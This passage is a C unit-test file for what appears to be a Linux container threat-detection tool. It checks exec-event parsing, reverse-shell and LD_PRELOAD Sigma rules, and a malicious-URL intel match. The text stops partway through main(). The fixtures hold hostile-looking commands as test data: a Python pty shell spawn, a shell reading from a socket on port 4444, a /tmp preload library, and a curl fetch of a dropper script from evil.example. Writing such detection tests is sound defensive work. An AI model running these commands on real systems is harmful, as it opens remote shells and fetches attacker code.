// SPDX-License-Identifier: GPL-2.0
/*
 * exec_test.c - exec events end to end, short of the socket: WHORL_CMD_EXEC messages built as
 * the module builds them are parsed (hostile ones too), judged as the relay judges them (tree,
 * container's users, Sigma event), matched, and every match rendered as a finding in both
 * shapes, which tests/scc_validate.py (schema and strict proto3 parse) and tests/validate.py
 * then check.
 */

#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/stat.h>
#include <linux/genetlink.h>
#include <cmocka.h>

#include "attack.h"
#include "execev.h"
#include "finding.h"
#include "intel.h"
#include "json.h"
#include "kinds.h"
#include "scc.h"
#include "sigma.h"
#include "sigma_json.h"
#include "testlib.h"

#define CREATE_NS 1711713601000000000ULL

static char buf[16384];
static char root[] = "/tmp/whorl-exec-test.XXXXXX";
static FILE *scc_out, *flat_out;
static char scc_path[] = "/tmp/whorl-exec-scc.XXXXXX", flat_path[] = "/tmp/whorl-exec-flat.XXXXXX";

static void parse_ok(const struct t_finding *tf, struct whorl_finding *f)
{
	size_t len = t_build_finding(buf, tf);

	assert_int_equal(whorl_finding_parse(buf, len, f), 0);
}

/* --- parsing ---------------------------------------------------------------------------------- */

static void check_shell(const struct t_finding *tf, const struct whorl_finding *f)
{
	uint8_t ip[4] = { 10, 0, 0, 9 };

	assert_true(f->exec);
	assert_false(f->has_kind);
	assert_true(f->has_seq && f->seq == 12);
	assert_true(f->has_event && f->event == WHORL_EVENT_EXEC);
	assert_true(f->has_tgid && f->tgid == T_EXEC_PID);
	assert_true(f->has_gid && f->gid == 0);
	assert_string_equal(f->cwd, "/tmp");
	assert_int_equal(f->nargs, 2);
	assert_string_equal(f->binary.path, "/bin/busybox");
	assert_true(f->binary.has_sha256);
	assert_true(f->stdio[0].present && f->stdio[0].type == WHORL_STDIO_SOCKET);
	assert_int_equal(f->stdio[0].family, AF_INET);
	assert_int_equal(f->stdio[0].proto, IPPROTO_TCP);
	assert_int_equal(f->stdio[0].remote_len, 4);
	assert_memory_equal(f->stdio[0].remote, ip, 4);
	assert_true(f->stdio[0].has_remote_port && f->stdio[0].remote_port == 4444);
	assert_true(f->stdio[0].has_local_port && f->stdio[0].local_port == 41234);
	assert_true(f->stdio[2].present && f->stdio[2].type == WHORL_STDIO_PIPE);
	assert_int_equal(f->stdio[2].remote_len, 0);
	assert_int_equal(f->nenv, 1);
	assert_string_equal(f->env[0].name, "LD_PRELOAD");
	assert_string_equal(f->env[0].value, "/tmp/.x.so");
	assert_false(f->env[0].truncated);
	assert_false(f->env_incomplete);
	assert_true(f->has_start && f->start_ns == T_EXEC_START_NS);
	assert_true(f->has_exec_seq && f->exec_seq == 1);
	assert_true(f->has_parent_start && f->parent_start_ns == T_EXEC_PARENT_START_NS);
	assert_true(f->has_parent_exec_seq && f->parent_exec_seq == 1);
	assert_false(f->script.present);
	assert_string_equal(f->container_id, tf->container_id);
	assert_true(f->has_cgroup_id && f->cgroup_id == 9001);
}

static void exec_event_parses_every_field(void **state)
{
	struct t_finding tf = t_exec_shell();
	struct whorl_finding f;

	(void)state;
	parse_ok(&tf, &f);
	check_shell(&tf, &f);
	whorl_finding_free(&f);
	tf.pad64 = 1;		/* u64s after a pad attribute, as on some architectures */
	parse_ok(&tf, &f);
	check_shell(&tf, &f);
	whorl_finding_free(&f);
}

static void script_ipv6_and_truncated_env_parse(void **state)
{
	struct t_finding tf = t_exec_shell();
	struct whorl_finding f;
	uint8_t ip6[16];

	(void)state;
	tf.script = (struct t_file){ .present = 1, .path = "/tmp/x.sh", .fs_path = "/tmp/x.sh",
				     .dev = T_K8S_DEV, .layer = WHORL_LAYER_ADDED, .content = -1 };
	tf.stdio[1] = (struct t_stdio){ .present = 1, .type = WHORL_STDIO_SOCKET,
					.family = AF_INET6, .proto = IPPROTO_TCP,
					.local = "2001:db8::1", .local_port = 8080,
					.remote = "2001:db8::7", .remote_port = 50000 };
	tf.env[0].truncated = 1;
	tf.env_incomplete = 1;
	parse_ok(&tf, &f);
	assert_true(f.script.present);
	assert_string_equal(f.script.path, "/tmp/x.sh");
	assert_int_equal(f.stdio[1].remote_len, 16);
	assert_int_equal(inet_pton(AF_INET6, "2001:db8::7", ip6), 1);
	assert_memory_equal(f.stdio[1].remote, ip6, 16);
	assert_true(f.env[0].truncated);
	assert_true(f.env_incomplete);
	whorl_finding_free(&f);
}

/* An exec message whose nest the test writes itself. */
static struct nlmsghdr *begin(struct nlattr **nest)
{
	struct nlmsghdr *nlh = mnl_nlmsg_put_header(buf);
	struct genlmsghdr *genl;

	nlh->nlmsg_type = T_FAMILY;
	genl = mnl_nlmsg_put_extra_header(nlh, sizeof(*genl));
	genl->cmd = WHORL_CMD_EXEC;
	genl->version = WHORL_GENL_VERSION;
	*nest = mnl_attr_nest_start(nlh, WHORL_A_EXEC);
	mnl_attr_put_u32(nlh, WHORL_F_TGID, 9);
	return nlh;
}

static void put_stdio(struct nlmsghdr *nlh, int fd, uint8_t family, size_t addr_len)
{
	struct nlattr *n = mnl_attr_nest_start(nlh, WHORL_F_STDIO);
	uint8_t addr[16] = { 1, 2, 3, 4 };

	if (fd >= 0)
		mnl_attr_put_u8(nlh, WHORL_STDIO_A_FD, fd);
	mnl_attr_put_u8(nlh, WHORL_STDIO_A_TYPE, WHORL_STDIO_SOCKET);
	mnl_attr_put_u8(nlh, WHORL_STDIO_A_FAMILY, family);
	mnl_attr_put(nlh, WHORL_STDIO_A_REMOTE_ADDR, addr_len, addr);
	mnl_attr_put_u16(nlh, WHORL_STDIO_A_REMOTE_PORT, 9);
	mnl_attr_nest_end(nlh, n);
}

static void put_env(struct nlmsghdr *nlh, const char *name, const char *value)
{
	struct nlattr *n = mnl_attr_nest_start(nlh, WHORL_F_ENV);

	if (name)
		mnl_attr_put_strz(nlh, WHORL_ENV_A_NAME, name);
	if (value)
		mnl_attr_put_strz(nlh, WHORL_ENV_A_VALUE, value);
	mnl_attr_nest_end(nlh, n);
}

static void hostile_stdio_is_kept_only_when_well_formed(void **state)
{
	struct whorl_finding f;
	struct nlattr *nest;
	struct nlmsghdr *nlh = begin(&nest);

	(void)state;
	put_stdio(nlh, 7, AF_INET, 4);		/* no such descriptor */
	put_stdio(nlh, -1, AF_INET, 4);		/* no descriptor at all */
	put_stdio(nlh, 0, AF_INET6, 4);		/* an IPv6 socket with four bytes */
	put_stdio(nlh, 0, AF_INET, 4);		/* descriptor 0 again: the first one stays */
	put_stdio(nlh, 1, AF_INET, 5);		/* five bytes */
	put_stdio(nlh, 2, AF_UNIX, 4);		/* an address for a family that has none */
	mnl_attr_nest_end(nlh, nest);
	assert_int_equal(whorl_finding_parse(buf, nlh->nlmsg_len, &f), 0);
	assert_true(f.stdio[0].present);
	assert_int_equal(f.stdio[0].family, AF_INET6);
	assert_int_equal(f.stdio[0].remote_len, 0);
	assert_true(f.stdio[1].present);
	assert_int_equal(f.stdio[1].remote_len, 0);
	assert_int_equal(f.stdio[2].remote_len, 0);
	whorl_finding_free(&f);
}

static void hostile_env_is_bounded_and_well_formed(void **state)
{
	char name[80], value[WHORL_ENV_VALUE_MAX + 8];
	struct whorl_finding f;
	struct nlattr *nest;
	struct nlmsghdr *nlh = begin(&nest);
	int i;

	(void)state;
	put_env(nlh, "A", "first");
	put_env(nlh, "A", "second");		/* a name twice: the first wins */
	put_env(nlh, "B C", "x");		/* not a name the module sends */
	put_env(nlh, "", "x");
	put_env(nlh, "NOVALUE", NULL);
	put_env(nlh, NULL, "noname");
	memset(name, 'N', sizeof(name) - 1);
	name[sizeof(name) - 1] = '\0';
	put_env(nlh, name, "long name");
	memset(value, 'v', sizeof(value) - 1);
	value[sizeof(value) - 1] = '\0';
	put_env(nlh, "LONG", value);		/* a value longer than the module keeps */
	put_env(nlh, "BAD", "\xff\xfe");	/* not UTF-8: made so */
	for (i = 0; i < 30; i++) {
		snprintf(name, sizeof(name), "V%d", i);
		put_env(nlh, name, "x");
	}
	mnl_attr_nest_end(nlh, nest);
	assert_int_equal(whorl_finding_parse(buf, nlh->nlmsg_len, &f), 0);
	assert_int_equal(f.nenv, WHORL_ENV_NAMES_MAX);
	assert_string_equal(f.env[0].name, "A");
	assert_string_equal(f.env[0].value, "first");
	assert_string_equal(f.env[1].name, "BAD");
	assert_string_equal(f.env[1].value, "\xef\xbf\xbd\xef\xbf\xbd");
	assert_string_equal(f.env[2].name, "V0");
	assert_string_equal(f.env[15].name, "V13");
	whorl_finding_free(&f);
}

static void exec_without_its_nest_is_refused(void **state)
{
	struct t_finding tf = t_exec_shell();
	struct whorl_finding f;
	struct genlmsghdr *genl;
	size_t len = t_build_finding(buf, &tf);

	(void)state;
	/* a WHORL_A_FINDING nest under WHORL_CMD_EXEC is not an exec */
	((struct nlattr *)((char *)buf + NLMSG_HDRLEN + GENL_HDRLEN))->nla_type = WHORL_A_FINDING;
	assert_int_equal(whorl_finding_parse(buf, len, &f), -EINVAL);
	whorl_finding_free(&f);
	genl = (struct genlmsghdr *)((char *)buf + NLMSG_HDRLEN);
	genl->cmd = WHORL_CMD_FINDING;
	assert_int_equal(whorl_finding_parse(buf, len, &f), 0);
	assert_false(f.exec);
	whorl_finding_free(&f);
}

/* --- the Sigma event -------------------------------------------------------------------------- */

static struct whorl_exec_ctx ctx;

static void write_file(const char *rel, const char *data)
{
	char path[512];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", root, rel);
	f = fopen(path, "w");
	assert_non_null(f);
	fputs(data, f);
	fclose(f);
}

static void mkdirs(const char *rel)
{
	char cmd[600];

	snprintf(cmd, sizeof(cmd), "mkdir -p '%s/%s'", root, rel);
	assert_int_equal(system(cmd), 0);
}

static int setup(void **state)
{
	char name[64];

	(void)state;
	if (!mkdtemp(root))
		return -1;
	/* the shell's container: its root, with a passwd naming uid 0 twice and uid 1000 */
	snprintf(name, sizeof(name), "proc/%u/root/etc", T_EXEC_PID);
	mkdirs(name);
	snprintf(name, sizeof(name), "proc/%u/root/etc/passwd", T_EXEC_PID);
	write_file(name, "root:x:0:0:root:/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\n"
		   "bad line\n:x:5:5::/:\napp:x:1000:1000::/home/app:/bin/sh");
	/* a second process of another container whose /etc/passwd is a FIFO */
	mkdirs("proc/6000/root/etc");
	snprintf(name, sizeof(name), "%s/proc/6000/root/etc/passwd", root);
	if (mkfifo(name, 0644))
		return -1;
	scc_out = fdopen(mkstemp(scc_path), "w");
	flat_out = fdopen(mkstemp(flat_path), "w");
	return !scc_out || !flat_out || whorl_exec_init(&ctx, root, 1);
}

static int run_cmd(const char *fmt, const char *a, const char *b)
{
	char cmd[1024];

	snprintf(cmd, sizeof(cmd), fmt, a, b);
	return system(cmd);
}

static int teardown(void **state)
{
	(void)state;
	whorl_exec_free(&ctx);
	run_cmd("rm -rf '%s'%s", root, "");
	if (scc_out)
		fclose(scc_out);
	if (flat_out)
		fclose(flat_out);
	unlink(scc_path);
	unlink(flat_path);
	return 0;
}

/* The python that started the shell, as its own exec event. */
static struct t_finding parent_exec(void)
{
	static const char args[] = "/usr/bin/python3\0-c\0import pty; pty.spawn('sh')";
	struct t_finding p = t_exec_shell();

	p.seq = 11;
	p.pid = p.tgid = T_EXEC_PPID;
	p.ppid = 5000;
	p.start_ns = T_EXEC_PARENT_START_NS;
	p.parent_start_ns = 70000000000ULL;
	p.comm = "python3";
	p.args = args;
	p.args_len = sizeof(args);
	p.binary.path = p.binary.fs_path = "/usr/bin/python3.11";
	p.stdio[0] = p.stdio[1] = p.stdio[2] = (struct t_stdio){ .present = 1,
		.type = WHORL_STDIO_TTY };
	p.nenv = 0;
	return p;
}

static const char *field(const struct whorl_exec_result *r, int f)
{
	return r->sev.ev.field[f];
}

static void judge(const struct t_finding *tf, struct whorl_finding *f,
		  struct whorl_sigma_set *rules, struct whorl_exec_result *r)
{
	parse_ok(tf, f);
	assert_int_equal(whorl_exec_judge(&ctx, rules, f, 1, r), 0);
}

static void reverse_shell_has_every_sigma_field(void **state)
{
	struct t_finding tp = parent_exec(), tf = t_exec_shell();
	struct whorl_exec_result r;
	struct whorl_finding p, f;

	(void)state;
	judge(&tp, &p, NULL, &r);
	whorl_finding_free(&p);
	judge(&tf, &f, NULL, &r);
	assert_string_equal(field(&r, WHORL_SF_IMAGE), "/bin/busybox");
	assert_string_equal(field(&r, WHORL_SF_COMMAND_LINE), "sh -i");
	assert_string_equal(field(&r, WHORL_SF_PARENT_IMAGE), "/usr/bin/python3.11");
	assert_string_equal(field(&r, WHORL_SF_PARENT_COMMAND_LINE),
			    "/usr/bin/python3 -c import pty; pty.spawn('sh')");
	assert_string_equal(field(&r, WHORL_SF_USER), "root");	/* the first line of uid 0 */
	assert_string_equal(field(&r, WHORL_SF_CURRENT_DIRECTORY), "/tmp");
	assert_string_equal(field(&r, WHORL_SF_LOGON_ID), "0");
	assert_string_equal(field(&r, WHORL_SF_STDIN_TYPE), "socket");
	assert_string_equal(field(&r, WHORL_SF_STDIN_REMOTE_ADDRESS), "10.0.0.9");
	assert_string_equal(field(&r, WHORL_SF_STDIN_REMOTE_PORT), "4444");
	assert_string_equal(field(&r, WHORL_SF_STDOUT_TYPE), "socket");
	assert_string_equal(field(&r, WHORL_SF_STDERR_TYPE), "pipe");
	assert_null(field(&r, WHORL_SF_STDERR_REMOTE_ADDRESS));
	assert_null(field(&r, WHORL_SF_STDERR_REMOTE_PORT));
	assert_string_equal(field(&r, WHORL_SF_LAYER), "image");
	assert_string_equal(field(&r, WHORL_SF_SHA256), tf.binary.sha256_hex);
	assert_string_equal(field(&r, WHORL_SF_CONTAINER_ID), T_K8S_ID);
	assert_null(field(&r, WHORL_SF_CONTAINER_NAME));	/* no runtime state here */
	assert_int_equal(r.sev.ev.nenv, 1);
	assert_string_equal(r.sev.ev.env[0].name, "LD_PRELOAD");
	assert_string_equal(r.sev.ev.env[0].value, "/tmp/.x.so");
	assert_int_equal(r.nlineage, 1);
	whorl_finding_free(&f);
}

struct addr_case {
	const char *name;
	uint8_t family;
	const char *remote;
	const char *want;
};

static const struct addr_case addrs[] = {
	{ "ipv4_peer_is_dotted", AF_INET, "192.168.1.20", "192.168.1.20" },
	{ "ipv6_peer_is_compressed_without_brackets", AF_INET6, "2001:0db8:0:0:0:0:0:0007",
	  "2001:db8::7" },
	{ "ipv4_mapped_peer_is_dotted", AF_INET6, "::ffff:10.1.2.3", "10.1.2.3" },
	{ "unconnected_socket_has_no_peer", AF_INET, NULL, NULL },
};

static void remote_address_is_text_cidr_can_match(void **state)
{
	const struct addr_case *c = *state;
	struct t_finding tf = t_exec_shell();
	struct whorl_exec_result r;
	struct whorl_finding f;

	tf.stdio[1] = (struct t_stdio){ .present = 1, .type = WHORL_STDIO_SOCKET,
					.family = c->family, .proto = IPPROTO_UDP,
					.local = c->family == AF_INET ? "10.0.0.1" : "::1",
					.remote = c->remote, .remote_port = 53 };
	judge(&tf, &f, NULL, &r);
	if (c->want) {
		assert_string_equal(field(&r, WHORL_SF_STDOUT_REMOTE_ADDRESS), c->want);
		assert_string_equal(field(&r, WHORL_SF_STDOUT_REMOTE_PORT), "53");
	} else {
		assert_null(field(&r, WHORL_SF_STDOUT_REMOTE_ADDRESS));
		assert_null(field(&r, WHORL_SF_STDOUT_REMOTE_PORT));
	}
	whorl_finding_free(&f);
}

static void user_is_absent_when_the_container_cannot_say(void **state)
{
	struct t_finding tf = t_exec_shell();
	struct whorl_exec_result r;
	struct whorl_finding f;

	(void)state;
	tf.uid = 4242;		/* in no line */
	judge(&tf, &f, NULL, &r);
	assert_null(field(&r, WHORL_SF_USER));
	assert_string_equal(field(&r, WHORL_SF_LOGON_ID), "4242");
	whorl_finding_free(&f);
	tf = t_exec_shell();
	tf.uid = 1000;
	judge(&tf, &f, NULL, &r);
	assert_string_equal(field(&r, WHORL_SF_USER), "app");	/* last line, no newline */
	whorl_finding_free(&f);
	/* a FIFO for /etc/passwd is not opened for reading (it would block) */
	tf.pid = tf.tgid = 6000;
	tf.container_id = "fifo-container";
	tf.uid = 0;
	judge(&tf, &f, NULL, &r);
	assert_null(field(&r, WHORL_SF_USER));
	whorl_finding_free(&f);
	/* a process already gone, of a container not seen before */
	tf.pid = tf.tgid = 6001;
	tf.container_id = "gone";
	judge(&tf, &f, NULL, &r);
	assert_null(field(&r, WHORL_SF_USER));
	whorl_finding_free(&f);
}

static void sigma_event_json_reads_back_the_same(void **state)
{
	struct t_finding tp = parent_exec(), tf = t_exec_shell();
	struct whorl_sigma_json_event back;
	char err[WHORL_SIGMA_JSON_ERR_MAX];
	struct whorl_exec_result r;
	struct whorl_finding p, f;
	json_object *o, *o2;
	unsigned int i;

	(void)state;
	judge(&tp, &p, NULL, &r);
	judge(&tf, &f, NULL, &r);
	o = whorl_sigma_event_json(&r.sev.ev);
	assert_non_null(o);
	/* through text, as `whorl rules match` reads a recorded line */
	o2 = json_tokener_parse(whorl_json_line(o));
	assert_int_equal(whorl_sigma_event_from_json(o2, &back, err), 0);
	for (i = 0; i < WHORL_SF_COUNT; i++) {
		if (!r.sev.ev.field[i])
			assert_null(back.ev.field[i]);
		else
			assert_string_equal(back.ev.field[i], r.sev.ev.field[i]);
	}
	assert_int_equal(back.ev.nenv, 1);
	assert_string_equal(back.ev.env[0].name, "LD_PRELOAD");
	assert_string_equal(back.ev.env[0].value, "/tmp/.x.so");
	json_object_put(o);
	json_object_put(o2);
	whorl_finding_free(&p);
	whorl_finding_free(&f);
}

/* --- rules' matches as findings --------------------------------------------------------------- */

static const char reverse_shell_rule[] =
	"title: Shell With Its Input From The Network\n"
	"id: 6f9b1c1e-2222-4333-8444-555555555555\n"
	"author: whorl tests\n"
	"description: A shell whose standard input is a TCP connection.\n"
	"level: critical\n"
	"tags: [attack.execution, attack.command-and-control, attack.t1059.004, attack.t1105,\n"
	"       attack.t9999, attack.g0001, whorl.ctd.reverse-shell]\n"
	"logsource: {category: process_creation, product: linux}\n"
	"detection:\n"
	"  shell:\n"
	"    Image|endswith: [/sh, /bash, /busybox]\n"
	"    whorl.StdinType: socket\n"
	"    whorl.StdinRemoteAddress|cidr: 10.0.0.0/8\n"
	"  condition: shell\n";

static const char preload_rule[] =
	"title: LD_PRELOAD From /tmp\n"
	"level: informational\n"
	"logsource: {category: process_creation, product: linux}\n"
	"detection:\n"
	"  s:\n"
	"    whorl.Env.LD_PRELOAD|startswith: /tmp/\n"
	"    ParentImage|endswith: /python3.11\n"
	"    User: root\n"
	"  condition: s\n";

static void load(struct whorl_sigma_set *set, const char *name, const char *text)
{
	char err[WHORL_SIGMA_ERR_MAX];

	if (whorl_sigma_load_buf(set, name, text, strlen(text), err))
		fail_msg("%s", err);
}

#define at whorl_json_at
#define s_at t_json_str

/* Match @k of @r as an SCC finding, written for the schema checks. */
static json_object *scc_of(const struct whorl_exec_result *r, size_t k,
			   const struct whorl_finding *f)
{
	json_object *o = whorl_rule_finding_scc(r->hits[k], f, r, "node-1", CREATE_NS);

	assert_non_null(o);
	fprintf(scc_out, "%s\n", whorl_json_line(o));
	return o;
}

/* The same as a flat finding. */
static json_object *flat_of(const struct whorl_exec_result *r, size_t k,
			    const struct whorl_finding *f)
{
	json_object *o = whorl_rule_finding_json(r->hits[k], f, r, "node-1");

	assert_non_null(o);
	fprintf(flat_out, "%s\n", whorl_json_line(o));
	return o;
}

static void matches_become_findings_in_both_shapes(void **state)
{
	struct t_finding tp = parent_exec(), tf = t_exec_shell();
	struct whorl_sigma_set set = { 0 };
	struct whorl_exec_result r;
	struct whorl_finding p, f;
	json_object *o;

	(void)state;
	load(&set, "rules/reverse-shell.yml", reverse_shell_rule);
	load(&set, "rules/preload.yml", preload_rule);
	judge(&tp, &p, &set, &r);
	assert_int_equal(r.nhits, 0);
	judge(&tf, &f, &set, &r);
	assert_int_equal(r.nhits, 2);

	o = scc_of(&r, 0, &f);
	assert_string_equal(s_at(o, "finding.category"), "Reverse Shell");
	assert_string_equal(s_at(o, "finding.severity"), "CRITICAL");
	assert_string_equal(s_at(o, "finding.description"),
			    "A shell whose standard input is a TCP connection.");
	assert_string_equal(s_at(o, "finding.mitreAttack.primaryTactic"), "EXECUTION");
	assert_string_equal(s_at(o, "finding.mitreAttack.additionalTactics.0"),
			    "COMMAND_AND_CONTROL");
	/* the sub-technique with its parent; T9999 is no technique SCC has */
	assert_string_equal(s_at(o, "finding.mitreAttack.primaryTechniques.0"), "UNIX_SHELL");
	assert_string_equal(s_at(o, "finding.mitreAttack.primaryTechniques.1"),
			    "COMMAND_AND_SCRIPTING_INTERPRETER");
	assert_null(at(o, "finding.mitreAttack.primaryTechniques.2"));
	assert_string_equal(s_at(o, "finding.mitreAttack.additionalTechniques.0"),
			    "INGRESS_TOOL_TRANSFER");
	assert_null(at(o, "finding.mitreAttack.additionalTechniques.1"));
	assert_string_equal(s_at(o, "finding.sourceProperties.techniqueIds.2"), "T9999");
	assert_string_equal(s_at(o, "finding.sourceProperties.rule.id"),
			    "6f9b1c1e-2222-4333-8444-555555555555");
	assert_string_equal(s_at(o, "finding.sourceProperties.rule.author"), "whorl tests");
	assert_string_equal(s_at(o, "finding.sourceProperties.rule.link"),
			    "rules/reverse-shell.yml");
	assert_string_equal(s_at(o, "finding.sourceProperties.rule.path"),
			    "rules/reverse-shell.yml");
	{
		json_object *ev = at(o, "finding.sourceProperties.event"), *v;

		assert_true(json_object_object_get_ex(ev, "whorl.StdinRemoteAddress", &v));
		assert_string_equal(json_object_get_string(v), "10.0.0.9");
	}
	assert_null(at(o, "finding.sourceProperties.kind"));
	/* the process, then its parent */
	assert_string_equal(s_at(o, "finding.processes.0.pid"), "5150");
	assert_string_equal(s_at(o, "finding.processes.0.parentPid"), "5100");
	assert_string_equal(s_at(o, "finding.processes.0.binary.path"), "/bin/busybox");
	assert_string_equal(s_at(o, "finding.processes.0.args.1"), "-i");
	assert_string_equal(s_at(o, "finding.processes.0.envVariables.0.name"), "LD_PRELOAD");
	assert_string_equal(s_at(o, "finding.processes.1.pid"), "5100");
	assert_string_equal(s_at(o, "finding.processes.1.parentPid"), "5000");
	assert_string_equal(s_at(o, "finding.processes.1.name"), "python3");
	assert_string_equal(s_at(o, "finding.processes.1.binary.path"), "/usr/bin/python3.11");
	assert_string_equal(s_at(o, "finding.processes.1.args.2"), "import pty; pty.spawn('sh')");
	assert_null(at(o, "finding.processes.2"));
	assert_string_equal(s_at(o, "resource.type"), "whorl.Container");
	json_object_put(o);

	/* an informational rule without tags: LOW, its title, no mitreAttack */
	o = scc_of(&r, 1, &f);
	assert_string_equal(s_at(o, "finding.category"), "LD_PRELOAD From /tmp");
	assert_string_equal(s_at(o, "finding.severity"), "LOW");
	assert_null(at(o, "finding.mitreAttack"));
	assert_null(at(o, "finding.sourceProperties.techniqueIds"));
	json_object_put(o);

	o = flat_of(&r, 0, &f);
	assert_string_equal(s_at(o, "category"), "Reverse Shell");
	assert_string_equal(s_at(o, "eventType"), "exec");
	assert_string_equal(s_at(o, "mitreAttack.techniqueIds.0"), "T1059.004");
	assert_string_equal(s_at(o, "processes.1.binary.path"), "/usr/bin/python3.11");
	assert_string_equal(s_at(o, "rule.title"), "Shell With Its Input From The Network");
	assert_string_equal(s_at(o, "event.CommandLine"), "sh -i");
	json_object_put(o);
	o = flat_of(&r, 1, &f);
	json_object_put(o);

	whorl_finding_free(&p);
	whorl_finding_free(&f);
	whorl_sigma_free(&set);
}

/* A rule may name a Container Threat Detection category; a misspelt one is refused. */
/* A URL that intel lists, on a command line: whorl.IntelUrl and the shipped rule's finding. */
static void intel_url_on_the_command_line_is_a_finding(void **state)
{
	static const char feed[] = "url:http://evil.example/x.sh dropper\n";
	static const char args[] = "curl\0-fsSL\0HTTP://Evil.Example/x.sh?v=2";
	struct t_finding tf = t_exec_shell();
	struct whorl_sigma_set set = { 0 };
	char err[WHORL_INTEL_ERR_MAX], path[512];
	struct whorl_intel intel = { 0 };
	struct whorl_exec_result r;
	struct whorl_finding f;
	json_object *o;

	(void)state;
	/* (the tests run in userspace/, as t_fixture() assumes) */
	snprintf(path, sizeof(path), "%s", "../rules/malicious_url_observed.yml");
	if (whorl_sigma_load_path(&set, path, NULL, NULL) || set.n != 1)
		fail_msg("the shipped rule %s did not load", path);
	assert_int_equal(whorl_intel_parse(&intel, "feed", feed, strlen(feed), err), 0);
	tf.args = args;
	tf.args_len = sizeof(args);
	/* no url: lines loaded: the field is absent, the rule silent */
	judge(&tf, &f, &set, &r);
	assert_null(field(&r, WHORL_SF_INTEL_URL));
	assert_int_equal(r.nhits, 0);
	whorl_finding_free(&f);

	ctx.urls = &intel.urls;
	judge(&tf, &f, &set, &r);
	ctx.urls = NULL;
	assert_string_equal(field(&r, WHORL_SF_INTEL_URL), "HTTP://Evil.Example/x.sh?v=2");
	assert_string_equal(field(&r, WHORL_SF_INTEL_URL_LABEL), "dropper");
	assert_int_equal(r.nhits, 1);
	o = scc_of(&r, 0, &f);
	assert_string_equal(s_at(o, "finding.category"), "Malicious URL Observed");
	assert_string_equal(s_at(o, "finding.severity"), "HIGH");
	assert_non_null(at(o, "finding.sourceProperties.event"));
	assert_string_equal(json_object_get_string(json_object_object_get(
				    at(o, "finding.sourceProperties.event"), "whorl.IntelUrl")),
			    "HTTP://Evil.Example/x.sh?v=2");
	json_object_put(o);
	o = flat_of(&r, 0, &f);
	json_object_put(o);
	whorl_finding_free(&f);
	whorl_intel_free(&intel);
	whorl_sigma_free(&set);
}

static void unknown_ctd_category_is_refused(void **state)
{
	static const char rule[] =
		"title: t\nlevel: low\ntags: [whorl.ctd.reverse-shel]\n"
		"logsource: {category: process_creation, product: linux}\n"
		"detection: {s: {Image: /x}, condition: s}\n";
	struct whorl_sigma_set set = { 0 };
	char err[WHORL_SIGMA_ERR_MAX];

	(void)state;
	assert_int_equal(whorl_sigma_load_buf(&set, "r.yml", rule, strlen(rule), err), 1);
	assert_string_equal(err, "r.yml:3: unknown Container Threat Detection category "
			    "'whorl.ctd.reverse-shel'");
	assert_string_equal(whorl_sigma_ctd_category("execution-fileless-execution-in-memfd"),
			    "Execution: Fileless Execution in /memfd:");
	assert_null(whorl_sigma_ctd_category("reverse--shell"));
	whorl_sigma_free(&set);
}

/* The ATT&CK table agrees with what scc.c says of each kind. */
static void attack_ids_map_to_the_kinds_techniques(void **state)
{
	struct whorl_finding f = { .has_kind = 1 };
	const struct whorl_scc_kind *k;
	unsigned int kind;
	char parent[6];
	const char *name;

	(void)state;
	for (kind = 1; kind < __WHORL_KIND_MAX; kind++) {
		f.kind = kind;
		k = whorl_scc_kind(&f);
		if (!k)
			continue;
		/* a sub-technique SCC lacks (T1204.003) is named by its parent */
		name = whorl_attack_technique(k->attack_ids[0]);
		snprintf(parent, sizeof(parent), "%s", k->attack_ids[0]);
		if (!name)
			name = whorl_attack_technique(parent);
		if (!name || strcmp(name, k->techniques[0]))
			fail_msg("%s: %s is %s, scc.c says %s", k->category, k->attack_ids[0],
				 name ? name : "nothing", k->techniques[0]);
	}
	assert_string_equal(whorl_attack_technique("T1611"), "ESCAPE_TO_HOST");
	assert_null(whorl_attack_technique("T1059.999"));
	assert_true(whorl_attack_tactic_known("IMPACT"));
	assert_false(whorl_attack_tactic_known("STEALTH"));
}

static int validate(const char *cmd_fmt, const char *path)
{
	const char *python = getenv("WHORL_PYTHON");

	fflush(scc_out);
	fflush(flat_out);
	return run_cmd(cmd_fmt, python ? python : "/usr/bin/python3", path);
}

static void scc_findings_pass_schema_and_strict_proto3_parse(void **state)
{
	(void)state;
	assert_int_equal(validate("'%s' tests/scc_validate.py '%s'", scc_path), 0);
}

static void flat_findings_pass_the_schema(void **state)
{
	(void)state;
	assert_int_equal(validate("'%s' tests/validate.py ../docs/finding.schema.json '%s'",
				  flat_path), 0);
}

/* The checks can fail: a rule's finding claiming a kind, or a made-up tactic. */
static void broken_rule_findings_fail_the_checks(void **state)
{
	char path[] = "/tmp/whorl-exec-bad.XXXXXX", line[65536];
	FILE *in, *out;
	int fd = mkstemp(path);

	(void)state;
	assert_true(fd >= 0);
	out = fdopen(fd, "w");
	fflush(scc_out);
	in = fopen(scc_path, "r");
	assert_non_null(in);
	assert_non_null(fgets(line, sizeof(line), in));
	fclose(in);
	/* a tactic SCC does not have: the schema and the proto parse both refuse it */
	{
		char *t = strstr(line, "\"EXECUTION\"");

		assert_non_null(t);
		memcpy(t, "\"STEALTHXX\"", 11);
	}
	fputs(line, out);
	fclose(out);
	assert_int_not_equal(run_cmd("/usr/bin/python3 tests/scc_validate.py --only schema "
				     "'%s'%s", path, " >/dev/null 2>&1"), 0);
	assert_int_not_equal(run_cmd("/usr/bin/python3 tests/scc_validate.py --only proto "
				     "'%s'%s", path, " >/dev/null 2>&1"), 0);
	unlink(path);
}

int main(void)
{
	struct CMUnitTest tests[32];
	size_t i, n = 0;

	tests[n++] = (struct CMUnitTest)cmocka_unit_test(exec_event_parses_every_field);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(script_ipv6_and_truncated_env_parse);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(
		hostile_stdio_is_kept_only_when_well_formed);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(hostile_env_is_bounded_and_well_formed);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(exec_without_its_nest_is_refused);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(reverse_shell_has_every_sigma_field);
	for (i = 0; i < sizeof(addrs) / sizeof(addrs[0]); i++)
		tests[n++] = (struct CMUnitTest){ addrs[i].name,
						  remote_address_is_text_cidr_can_match, NULL,
						  NULL, (void *)&addrs[i] };
